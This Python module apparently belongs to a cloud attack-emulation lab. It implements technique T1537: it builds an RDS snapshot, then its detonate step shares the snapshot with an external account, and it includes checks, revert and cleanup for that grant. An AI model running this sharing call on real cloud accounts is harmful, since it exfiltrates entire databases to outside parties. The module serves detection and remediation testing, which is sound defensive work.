"""rds-share-snapshot: share an RDS snapshot with an external account (T1537)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.iam_role import EXTERNAL_ACCOUNT
from lab.attacks.resources import lab_tags, missing_ok
from lab.emulator.endpoints import Endpoints

INSTANCE = "lab-target-db"
SNAPSHOT = "lab-target-db-snapshot"


def restore_grants(rds: Any, snapshot: str) -> list[str]:
    attributes = rds.describe_db_snapshot_attributes(DBSnapshotIdentifier=snapshot)[
        "DBSnapshotAttributesResult"
    ]["DBSnapshotAttributes"]
    return [v for a in attributes if a["AttributeName"] == "restore" for v in a["AttributeValues"]]


class RdsShareSnapshot(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        rds = endpoints.client("rds", "harness")
        with missing_ok("DBInstanceAlreadyExists"):
            rds.create_db_instance(
                DBInstanceIdentifier=INSTANCE,
                DBInstanceClass="db.t3.micro",
                Engine="postgres",
                MasterUsername="lab",
                MasterUserPassword="lab-fake-password",
                AllocatedStorage=20,
                StorageEncrypted=True,
                Tags=lab_tags(self.id),
            )
        with missing_ok("DBSnapshotAlreadyExists"):
            rds.create_db_snapshot(
                DBSnapshotIdentifier=SNAPSHOT, DBInstanceIdentifier=INSTANCE, Tags=lab_tags(self.id)
            )
        prerequisites = {"db_instance": INSTANCE, "snapshot": SNAPSHOT}
        self.revert(endpoints, prerequisites)
        return prerequisites

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("rds", "attacker").modify_db_snapshot_attribute(
            DBSnapshotIdentifier=prerequisites["snapshot"],
            AttributeName="restore",
            ValuesToAdd=[EXTERNAL_ACCOUNT],
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """Nobody outside the account may restore the snapshot."""
        with missing_ok("DBSnapshotNotFound"):
            return not restore_grants(
                endpoints.client("rds", "observer"), prerequisites["snapshot"]
            )
        return True

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        rds = endpoints.client("rds", "harness")
        with missing_ok("DBSnapshotNotFound"):
            granted = restore_grants(rds, prerequisites["snapshot"])
            if granted:
                rds.modify_db_snapshot_attribute(
                    DBSnapshotIdentifier=prerequisites["snapshot"],
                    AttributeName="restore",
                    ValuesToRemove=granted,
                )

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        rds = endpoints.client("rds", "harness")
        with missing_ok("DBSnapshotNotFound"):
            rds.delete_db_snapshot(DBSnapshotIdentifier=prerequisites["snapshot"])
        with missing_ok("DBInstanceNotFound", "DBInstanceNotFoundFault"):
            rds.delete_db_instance(
                DBInstanceIdentifier=prerequisites["db_instance"], SkipFinalSnapshot=True
            )


TECHNIQUE = RdsShareSnapshot
